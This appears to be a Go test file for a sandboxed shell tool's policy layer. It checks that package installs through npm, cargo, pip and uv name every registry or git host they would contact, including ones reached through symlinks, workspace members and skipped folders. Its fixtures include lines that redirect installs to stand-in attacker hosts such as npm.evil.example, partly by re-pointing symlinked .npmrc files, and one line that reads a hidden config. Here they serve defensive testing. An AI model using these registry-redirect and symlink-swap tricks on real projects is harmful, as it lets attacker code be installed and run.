package shelltool

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/onellm/onellm-mcp/grants"
	"github.com/onellm/onellm-mcp/shelltool/cmdline"
)

// writeTree writes each file (relative to dir, "->target" for a symlink;
// one starting "#!" is executable).
func writeTree(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for rel, body := range files {
		p := filepath.Join(dir, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if target, ok := strings.CutPrefix(body, "->"); ok {
			err = os.Symlink(target, p)
		} else {
			mode := os.FileMode(0o644)
			if strings.HasPrefix(body, "#!") {
				mode = 0o755
			}
			err = os.WriteFile(p, []byte(body), mode)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

// installHosts are the hosts of a plan's package.install requests.
func installHosts(reqs []grants.Request) string {
	var hosts []string
	for _, r := range reqs {
		if r.Capability == grants.CapPackageInstall {
			hosts = append(hosts, r.Target.Host)
		}
	}
	return strings.Join(hosts, " ")
}

// TestSymlinkedProjectFileIsDynamic: a project file the decision would read
// or take as hidden that is a symlink, at its name or at a folder on its
// way, dangling or not, is <dynamic> in the sandbox's plan: the run's
// placeholder follows a link only at set-up, so the line can create or
// re-point the target the installer then reads (issue 16, H1).
func TestSymlinkedProjectFileIsDynamic(t *testing.T) {
	f := newFixture(t, `profile = "interactive-dev"`)
	writeTree(t, f.ws, map[string]string{
		"dangling/package.json": `{"name":"a","version":"1.0.0"}`,
		"dangling/.npmrc":       "->data/rc",
		"linked/package.json":   "{}",
		"linked/data/rc":        "",
		"linked/.npmrc":         "->data/rc",
		"plain/package.json":    "{}",
		"plain/.npmrc":          "@s:registry=https://npm.evil.example/\n",
		"cargo/Cargo.toml":      "[package]\nname = \"a\"\n",
		"cargo/cfg/config.toml": "[build]\njobs = 1\n",
		"cargo/.cargo":          "->cfg",
		"cargol/Cargo.toml":     "[package]\nname = \"a\"\n",
		"cargol/.cargo":         "->later",
		"py/requirements.txt":   "->real.txt",
		"py/real.txt":           "requests\n",
	})
	for _, tc := range []struct{ dir, line, hosts string }{
		{"dangling", "mkdir -p data && echo @s:registry=https://npm.evil.example/ > data/rc && npm i @s/x", "registry.npmjs.org " + cmdline.Dynamic},
		{"linked", "mv data old && mkdir data && echo @s:registry=https://npm.evil.example/ > data/rc && npm i @s/x", "registry.npmjs.org " + cmdline.Dynamic},
		{"plain", "npm i @s/x", "registry.npmjs.org"}, // a regular file: hidden, not read
		{"cargo", "cargo fetch", "index.crates.io " + cmdline.Dynamic},
		{"cargol", "mkdir later && cargo fetch", "index.crates.io " + cmdline.Dynamic},
		{"py", "pip install -r requirements.txt", "pypi.org " + cmdline.Dynamic},
		{".", "cd linked && npm i @s/x", "registry.npmjs.org " + cmdline.Dynamic}, // found by the walk
	} {
		plan, _, err := f.plan(t, map[string]any{"command": tc.line, "cwd": tc.dir})
		if err != nil {
			t.Fatalf("%s: %v", tc.line, err)
		}
		if got := installHosts(plan.Requests); got != tc.hosts {
			t.Errorf("in %s: %q: hosts %q, want %q", tc.dir, tc.line, got, tc.hosts)
		}
	}
}

// TestDecisionHiddenFilesAreHiddenByTheRun: a project file the decision
// took as hidden, and so did not read, is hidden from the command by the
// kernel sandbox, also where the credential scan does not look (a skipped
// folder such as node_modules): the command cannot read an index the
// decision did not name (issue 16, L1).
func TestDecisionHiddenFilesAreHiddenByTheRun(t *testing.T) {
	f := newFixture(t, `profile = "interactive-dev"`)
	writeTree(t, f.ws, map[string]string{
		"app/node_modules/m/package.json": "{}",
		"app/node_modules/m/.npmrc":       "@deep:registry=https://deep.example/\n",
	})
	plan, _, err := f.plan(t, map[string]any{"command": "cat .npmrc; exit 0; npm ci", "cwd": "app/node_modules/m"})
	if err != nil {
		t.Fatal(err)
	}
	if got := installHosts(plan.Requests); got != "registry.npmjs.org" {
		t.Fatalf("hosts %q", got)
	}
	out := output(t, plan.Run(context.Background(), grantAll(plan)))
	if strings.Contains(out.Stdout, "deep.example") {
		t.Fatalf("the command read the .npmrc the decision did not: %q", out.Stdout)
	}
}

// TestScriptMetadata: a PEP 723 block is read as the PEP's reference
// implementation (and uv) reads it: up to the last "# ///" of the comment
// run, so one inside a TOML multi-line string does not end it (issue 16,
// M1); what the reference refuses or reads otherwise is not ok.
func TestScriptMetadata(t *testing.T) {
	for _, tc := range []struct {
		in, want string
		ok       bool
	}{
		{"# /// script\n# dependencies = [\"x\"]\n# ///\nprint(1)\n", "dependencies = [\"x\"]\n", true},
		{"# /// script\n# a = 1\n# note = '''\n# ///\n# '''\n# [[tool.uv.index]]\n# url = \"https://e.example/\"\n# ///\nprint(1)\n",
			"a = 1\nnote = '''\n///\n'''\n[[tool.uv.index]]\nurl = \"https://e.example/\"\n", true},
		{"# /// script\n#\n# a = 1\n# ///\n", "\na = 1\n", true},
		{"# /// script\n#a = 1\n# ///\n", "", false}, // "#a" is no content line: no block
		{"# /// script\r\n# a = 1\r\n# ///\r\n", "a = 1\n", true},
		{"print(1)\n", "", true},
		{"# /// pyproject\n# a = 1\n# ///\n", "", true}, // another type: not the script's
		{"# /// script\n# a = 1\nimport os\n", "", false},
		{"# /// script\n# a = 1\n# ///\n\n# /// script\n# b = 2\n# ///\n", "", false}, // two blocks: the reference refuses
		{"# /// script\n# a = 1\f# url = \"https://e.example/\"\n# ///\n", "", false},
	} {
		got, ok := scriptMetadata([]byte(tc.in))
		if string(got) != tc.want || ok != tc.ok {
			t.Errorf("%q: %q %v, want %q %v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}

// TestTOMLSourceHosts: sources are read from the TOML as a parser reads
// it, whatever the spelling (quoted keys, inline tables, multi-line and
// literal strings, dotted keys); a file that does not parse is <dynamic>
// (issue 16, M6).
func TestTOMLSourceHosts(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"[[tool.uv.index]]\n\"url\" = \"https://pypi.evil.example/simple\"\ndefault = true\n", "pypi.evil.example"},
		{"[tool.uv.sources]\nx = { \"git\" = \"https://git.evil.example/x\" }\n", "git.evil.example"},
		{"[tool.uv.sources]\ny = { git = \"\"\"https://git2.evil.example/y\"\"\" }\n", "git2.evil.example"},
		{"[tool.uv.sources]\ny = { git = '''https://git3.example/y''' }\nz.url = 'https://z.example/z.whl'\n", "git3.example z.example"},
		{"[project]\ndependencies = [\n  \"\"\"x @ git+https://d.example/x\"\"\",\n  'y[a,b] @ https://e.example/y.whl ; python_version>\"3\"',\n]\n", "d.example e.example"},
		// A lockfile's package file is fetched from the URL it records:
		// on PyPI's file host it is pypi.org's, elsewhere its own host
		// (rev16 H4), as is a url whose "hash" is only a comment's.
		{"[[package]]\nname = \"x\"\nsource = { registry = \"https://pypi.org/simple\" }\nsdist = { url = \"https://files.example/x.tgz\", hash = \"sha256:0\" }\n", "pypi.org files.example"},
		{"[[package]]\nname = \"x\"\nsource = { registry = \"https://pypi.org/simple\" }\nsdist = { url = \"https://files.pythonhosted.org/x.tgz\", hash = \"sha256:0\" }\n", "pypi.org"},
		{"[tool.uv.sources]\nfoo = { url = \"https://evil.example/foo-1.0-py3-none-any.whl\" } # hash = x\n", "evil.example"},
		{"[tool.poetry.dependencies]\nr = { git = \"git@git.scp.example:o/r.git\" }\n", "git.scp.example"},       // scp-like (rev16 M1)
		{"[tool.poetry.dependencies]\nr = { \"git\" = \"git@git.scp2.example:o/r.git\" }\n", "git.scp2.example"}, // parsed
		{"[tool.uv.sources]\nfoo = { 'url' = \"https://evil2.example/foo.whl\" } # hash = x\n", "evil2.example"},
		{"[[package]]\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n", "index.crates.io"},
		{"[tool.uv]\nfind-links = [\"https://f.example/\"]\nindex-url = \"${IDX}\"\n", cmdline.Dynamic + " " + cmdline.Dynamic},
		{"url = \"https\\u003a//esc.example/\"\n", "esc.example"},                               // an escape: parsed
		{"x = { git = \"https://g.example/x\", hash = \"0\" }\n", "g.example"},                  // only a url with a hash is a file
		{"[tool.uv.sources\n\"x\" = 1\n", cmdline.Dynamic},                                      // parsed: no TOML
		{"\"url\" = \"https://a.example/\"\nurl = \"https://b.example/\"\n", cmdline.Dynamic},   // a duplicate key: TOML refuses it
		{"url = \"https://a.example/\"\nurl = \"https://b.example/\"\n", "a.example b.example"}, // plain: read by lines, both named
		{"[project]\nname = \"x\"\ndescription = \"see https://docs.example\"\n", ""},
	} {
		if got := strings.Join(tomlSourceHosts([]byte(tc.in)), " "); got != tc.want {
			t.Errorf("%q: %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestRequirementFileKinds: a requirements file is read as what uv takes it
// for by its name (a script's inline metadata, a pyproject.toml's sources,
// a pylock's URLs), as well as pip's requirements text (issue 16, M2).
func TestRequirementFileKinds(t *testing.T) {
	ws := t.TempDir()
	script := "# /// script\n# dependencies = [\"requests\", \"x @ git+https://git.evil.example/x\"]\n# [[tool.uv.index]]\n# url = \"https://pypi.evil.example/simple\"\n# default = true\n# ///\nprint(1)\n"
	writeTree(t, ws, map[string]string{
		"s.py":               script,
		"S.PYW":              script,
		"deps":               script,
		"sub/pyproject.toml": "[project]\nname = \"a\"\ndependencies = [\"y\"]\n[tool.uv.sources]\ny = { git = \"https://git2.evil.example/y\" }\n",
		"pylock.toml":        "lock-version = \"1.0\"\n[[packages]]\nname = \"z\"\n[[packages.wheels]]\nurl = \"https://files.evil.example/z.whl\"\nhashes = { sha256 = \"0\" }\n",
		"setup.py":           "from setuptools import setup\nsetup()\n",
		"req.txt":            "# url = \"https://comment.example/\"\nrequests\n",
	})
	pc := &projectConfig{cwd: ws, roots: []string{ws}, hosts: map[string][]string{}}
	for _, tc := range []struct{ file, want string }{
		{"s.py", "pypi.evil.example git.evil.example"},
		{"S.PYW", "pypi.evil.example git.evil.example"},
		{"deps", "pypi.evil.example git.evil.example"},
		{"sub/pyproject.toml", "git2.evil.example"},
		{"pylock.toml", "files.evil.example"},
		{"setup.py", cmdline.Dynamic},
		{"req.txt", ""},
	} {
		seen := 0
		hosts := pc.requirements(filepath.Join(ws, tc.file), &seen, 0)
		slices.Sort(hosts)
		want := strings.Fields(tc.want)
		slices.Sort(want)
		if !slices.Equal(slices.Compact(hosts), want) {
			t.Errorf("%s: %q, want %q", tc.file, hosts, want)
		}
	}
}

// TestInstallIntoSkippedFolder: an install pointed into a folder the walk
// and the credential scan skip (node_modules, vendor) reads that folder's
// configuration directly: on the host it is named, in the sandbox it is
// taken as hidden and handed to the run (issue 16, M5).
func TestInstallIntoSkippedFolder(t *testing.T) {
	ws := t.TempDir()
	writeTree(t, ws, map[string]string{
		"package.json":                  "{}",
		"node_modules/foo/package.json": "{}",
		"node_modules/foo/.npmrc":       "@s:registry=https://npm.evil.example/\n",
		"vendor/x/pyproject.toml":       "[project]\nname = \"x\"\ndependencies = [\"y @ git+https://git.evil.example/y\"]\n",
	})
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n")
	npmrc := []string{filepath.Join(ws, "node_modules/foo/.npmrc")}
	for _, tc := range []struct {
		line    string
		surface grants.Surface
		hosts   string
		hidden  []string
	}{
		{"npm --prefix node_modules/foo i @s/x", grants.SurfaceHost, "registry.npmjs.org npm.evil.example", nil},
		{"cd node_modules/foo && npm i @s/x", grants.SurfaceHost, "registry.npmjs.org npm.evil.example", nil},
		{"npm --prefix=node_modules/foo i @s/x", grants.SurfaceSandbox, "registry.npmjs.org", npmrc},
		{"cd node_modules/foo && npm i @s/x", grants.SurfaceSandbox, "registry.npmjs.org", npmrc},
		{"uv sync --directory vendor/x", grants.SurfaceSandbox, "pypi.org git.evil.example", nil},
		{"uv run --project vendor/x pytest", grants.SurfaceSandbox, "pypi.org git.evil.example", nil},
		{"npm --prefix \"$D\" i @s/x", grants.SurfaceHost, "registry.npmjs.org " + cmdline.Dynamic, nil},
	} {
		a, err := cmdline.Analyze(tc.line)
		if err != nil {
			t.Fatal(err)
		}
		reqs, hidden, err := requests(p, a, ws, tc.surface)
		if err != nil {
			t.Fatalf("%q: %v", tc.line, err)
		}
		if got := installHosts(reqs); got != tc.hosts || !slices.Equal(hidden, tc.hidden) {
			t.Errorf("%q (%s): hosts %q hidden %q, want %q %q", tc.line, tc.surface, got, hidden, tc.hosts, tc.hidden)
		}
	}
}

// TestWorkspaceMembers: an install in a workspace's root reads its
// members' manifests (npm workspaces, pnpm packages, Cargo members, uv
// members), whose git and URL dependencies it fetches; a members list
// not read here is <dynamic> (issue 16, M3).
func TestWorkspaceMembers(t *testing.T) {
	ws := t.TempDir()
	writeTree(t, ws, map[string]string{
		"nws/package.json":            `{"name":"r","workspaces":["packages/*"]}`,
		"nws/packages/a/package.json": `{"dependencies":{"x":"git+https://git.evil.example/x.git"}}`,
		"nobj/package.json":           `{"workspaces":{"packages":["a"]}}`,
		"nobj/a/package.json":         `{"dependencies":{"x":"https://tar.evil.example/x.tgz"}}`,
		"nneg/package.json":           `{"workspaces":["!x", "a/**"]}`,
		"pws/package.json":            "{}",
		"pws/pnpm-workspace.yaml":     "packages:\n  - 'pk/*'\n  - \"other\" # a comment\n",
		"pws/pk/m/package.json":       `{"dependencies":{"x":"git+https://pgit.evil.example/x.git"}}`,
		"pflow/package.json":          "{}",
		"pflow/pnpm-workspace.yaml":   "packages: ['pk/*']\n",
		"cws/Cargo.toml":              "[workspace]\nmembers = [\"crates/*\"]\n",
		"cws/crates/a/Cargo.toml":     "[package]\nname = \"a\"\n[dependencies]\nx = { git = \"https://git.evil.example/x\" }\n",
		"uvws/pyproject.toml":         "[project]\nname = \"r\"\n[tool.uv.workspace]\nmembers = [\"pkgs/*\"]\n",
		"uvws/pkgs/m/pyproject.toml":  "[project]\nname = \"m\"\ndependencies = [\"x @ git+https://git.evil.example/x\"]\n[tool.uv.sources]\ny = { git = \"https://git2.evil.example/y\" }\n",
		"self/package.json":           `{"workspaces":["."]}`,
	})
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n")
	for _, tc := range []struct{ dir, line, hosts string }{
		{"nws", "npm install", "registry.npmjs.org git.evil.example"},
		{"nobj", "yarn", "registry.yarnpkg.com tar.evil.example"},
		{"nneg", "npm install", "registry.npmjs.org " + cmdline.Dynamic},
		{"pws", "pnpm install", "registry.npmjs.org pgit.evil.example"},
		{"pflow", "pnpm install", "registry.npmjs.org " + cmdline.Dynamic},
		{"cws", "cargo fetch", "index.crates.io git.evil.example"},
		{"uvws", "uv lock", "pypi.org git.evil.example git2.evil.example"},
		{"self", "npm install", "registry.npmjs.org"},
	} {
		a, err := cmdline.Analyze(tc.line)
		if err != nil {
			t.Fatal(err)
		}
		reqs, _, err := requests(p, a, filepath.Join(ws, tc.dir), grants.SurfaceHost)
		if err != nil {
			t.Fatalf("%q: %v", tc.line, err)
		}
		if got := installHosts(reqs); got != tc.hosts {
			t.Errorf("in %s: %q: hosts %q, want %q", tc.dir, tc.line, got, tc.hosts)
		}
	}
}

// TestUnreadFoldersAreDynamic: a folder whose configuration the decision
// does not read — named by a variable the line assigns, by a pattern, or
// above the chain's bound — makes the install <dynamic>, never the default
// index alone (review: each named only registry.npmjs.org/pypi.org/
// rubygems.org while the tool read a git source elsewhere).
func TestUnreadFoldersAreDynamic(t *testing.T) {
	ws := t.TempDir()
	deep := strings.Repeat("d/", maxChainDepth+6)
	writeTree(t, ws, map[string]string{
		".venv/x/pyproject.toml":      "[project]\nname = \"x\"\n[tool.uv.sources]\ny = { git = \"https://evil1.example/y\" }\n",
		"vendor/x/Gemfile":            "source \"https://evil2.example\"\n",
		"node_modules/x/package.json": `{"dependencies": {"y": "git+https://evil3.example/y.git"}}`,
		"package.json":                `{"dependencies": {"y": "git+https://evil4.example/y.git"}}`,
		deep + "keep":                 "",
	})
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	for _, tc := range []struct{ dir, line string }{
		{"", "UV_PROJECT=.venv/x uv sync"},
		{"", "BUNDLE_GEMFILE=vendor/x/Gemfile bundle install"},
		{"", "npm install --prefix node_mod*/x foo"},
		{deep, "npm install foo"},
	} {
		reqs, err := LineRequests(p, tc.line, filepath.Join(ws, tc.dir), grants.SurfaceSandbox)
		if err != nil {
			t.Fatalf("%q: %v", tc.line, err)
		}
		if got := installHosts(reqs); !strings.Contains(got, cmdline.Dynamic) {
			t.Errorf("%q in %.20s: hosts %q, want <dynamic> among them", tc.line, tc.dir, got)
		}
	}
}
